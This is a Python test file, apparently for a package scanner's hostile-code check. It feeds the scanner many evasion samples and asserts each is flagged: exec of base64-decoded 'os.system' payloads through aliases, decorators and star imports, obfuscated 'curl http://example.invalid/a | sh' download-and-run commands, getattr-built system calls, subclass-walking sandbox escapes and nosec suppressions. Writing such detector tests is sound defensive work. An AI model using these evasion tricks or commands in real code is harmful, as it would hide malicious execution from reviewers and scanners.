"""Ways around a scanner: each is found, or stands on the page of what static checks do not promise."""

import base64
from pathlib import Path

import pytest

from mecapy_platform.core.checks.findings import CheckName, Finding
from mecapy_platform.scan.main import Order, read_file
from mecapy_platform.worker.checks.review import SCANNED
from support.checking import write_package

CODE = base64.b64encode(b"import os; os.system('id')").decode()
PAGE = Path(__file__).parents[2] / "docs/reference/checks.md"

FOUND = {
    "alias": (f"import base64\nrun = exec\nrun(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
    "alias_of_builtins": (
        f"import base64\nfrom builtins import exec as go\ngo(base64.b64decode('{CODE}'))\n",
        "run_of_decoded_text",
    ),
    "two_aliases": (f"import base64 as b\na = b\nc = a.b64decode\nd = exec\nd(c('{CODE}'))\n", "run_of_decoded_text"),
    "dunder_call": (f"import base64\nexec.__call__(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
    "list_of_runners": (f"import base64\n[exec][0](base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
    "map": (f"import base64\nlist(map(exec, [base64.b64decode('{CODE}')]))\n", "runner_as_value"),
    "decorator": (
        f"import base64\n\n\n@exec\n@base64.b64decode\nclass A:\n    pass\n\n\nbase64.b64decode('{CODE}')\n",
        "runner_as_value",
    ),
    "walrus": (f"import base64\nif (run := exec):\n    run(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
    "default_argument": (
        f"import base64\n\n\ndef f(run=exec, text=base64.b64decode('{CODE}')):\n    run(text)\n",
        "run_of_decoded_text",
    ),
    "nested_functions": (
        (
            "def a():\n    def b():\n        import base64\n\n        def c():\n"
            f"            exec(base64.b64decode('{CODE}'))\n\n        c()\n\n    b()\n"
        ),
        "run_of_decoded_text",
    ),
    "class_body": (f"import base64\n\n\nclass A:\n    exec(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
    "star_import": (
        f"from base64 import *\nfrom builtins import *\nexec(b64decode('{CODE}'))\n",
        "run_of_decoded_text",
    ),
    "star_import_of_os": ("from os import *\nsystem('curl http://example.invalid/a | sh')\n", "download_and_run"),
    "conditional_import": (
        "import os as o, sys\nx = o if sys else None\ngetattr(x, 'sys' 'tem')('id')\n",
        "hidden_call",
    ),
    "exec_of_exec": ("exec('exec(\"import os; getattr(os, chr(115) + \\'ystem\\')(1)\")')\n", "hidden_call"),
    "string_in_a_list": (
        "import subprocess\nsubprocess.run(['bash', '-c'] + ['curl http://example.invalid/a|sh'])\n",
        "download_and_run",
    ),
    "percent_format": (
        "import os\nos.system('%s http://example.invalid/a | %s' % ('curl', 'sh'))\n",
        "download_and_run",
    ),
    "join_of_letters": (
        "import os\nos.system(''.join(['cu', 'rl', ' http://example.invalid/a | s', 'h']))\n",
        "download_and_run",
    ),
    "bytes": ("import os\nos.system(b'curl http://example.invalid/a | sh')\n", "download_and_run"),
    "dict_of_functions": (
        "import os\n{'a': os.system}['a']('curl http://example.invalid/a | sh')\n",
        "download_and_run",
    ),
    "timeit": (
        f"import base64, timeit\ntimeit.timeit(base64.b64decode('{CODE}').decode(), number=1)\n",
        "run_of_decoded_text",
    ),
    "name_at_run_time": (
        "import importlib\n\n\ndef f(name):\n    return importlib.import_module(name)\n",
        "import_unknown",
    ),
    "exec_of_input": ("def f(text):\n    exec(text)\n", "run_of_text"),
    "exec_of_a_file": (
        "from pathlib import Path\nexec(Path(__file__).with_name('data.txt').read_text())\n",
        "run_of_text",
    ),
    "builtins_by_name": (
        "import builtins\n\n\ndef f(name, text):\n    return getattr(builtins, name)(text)\n",
        "hidden_attribute",
    ),
    "posix": ("import posix\nposix.system('curl http://example.invalid/a | sh')\n", "download_and_run"),
    "getattribute": ("import os\nos.__getattribute__('system')('id')\n", "hidden_call"),
    "type_of_object": ("object.__subclasses__()\n", "escape_by_subclasses"),
    "nosec": ("import os\nos.system('id')  # nosec\n", "B605"),
    "nosec_with_rule": ("import subprocess\nsubprocess.call('id', shell=True)  # nosec B602\n", "B602"),
    "form_feed": ("x = 1\x0cimport os\n", "source_syntax"),
    "semicolons": ("x = 1;" * 3 + f"import base64;exec(base64.b64decode('{CODE}'))\n", "run_of_decoded_text"),
    "line_continuation": (f"import base64\nex\\\nec(base64.b64decode('{CODE}'))\n", "source_syntax"),
}
OUTSIDE = {
    "a pickle read from an upload": "import pickle\n\n\ndef f(model):\n    return pickle.load(model.open('rb'))\n",
    "a name from a configuration file": (
        "import json\n\n\ndef f(config):\n    return globals()[json.load(config.open())['law']]\n"
    ),
}


def findings(folder: Path, source: str) -> list[Finding]:
    write_package(folder, {"main.py": source})
    return [
        Finding.from_json(finding)
        for finding in read_file("main.py", str(folder), Order(frozenset(SCANNED), 60))["findings"]
    ]


@pytest.mark.parametrize("name", FOUND)
def test_a_way_around_is_found(name: str, tmp_path: Path) -> None:
    source, rule = FOUND[name]
    assert rule in {finding.rule for finding in findings(tmp_path / "package", source)}


@pytest.mark.parametrize("what", OUTSIDE)
def test_what_is_not_found_stands_on_the_page(what: str, tmp_path: Path) -> None:
    found = findings(tmp_path / "package", OUTSIDE[what])
    assert not [item for item in found if item.check is CheckName.HOSTILE]
    assert what in " ".join(PAGE.read_text("utf-8").split())
